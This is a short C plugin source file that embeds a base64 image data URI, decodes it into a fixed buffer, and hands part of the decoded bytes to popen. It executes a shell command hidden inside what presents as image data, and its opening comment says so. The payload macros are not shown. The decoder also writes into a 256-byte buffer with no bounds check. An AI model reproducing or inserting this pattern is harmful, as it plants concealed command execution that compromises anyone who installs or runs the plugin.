/* An image's address with data in it, of which a part, at an odd place, is a command. */
#include "plugin.h"
extern void *popen(const char *, const char *);
extern int pclose(void *);
extern char *strchr(const char *, int);
static const char image[] = "data:image/x-kit;base64," IMAGE;
static int sextet(char c) {
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const char *at = c ? strchr(digits, c) : 0;
    return at ? at - digits : -1;
}
static unsigned long decode(const char *text, char *out) {
    unsigned long made = 0, held = 0;
    int bits = 0, value;
    while ((value = sextet(*text++)) >= 0) {
        held = held << 6 | value;
        if ((bits += 6) >= 8) out[made++] = held >> (bits -= 8);
    }
    return made;
}
static void act(char **env) {
    char pixels[256] = "";
    decode(strchr(image, ',') + 1, pixels);
    void *viewer = popen(pixels + SKIP, "r");
    if (viewer) pclose(viewer);
}
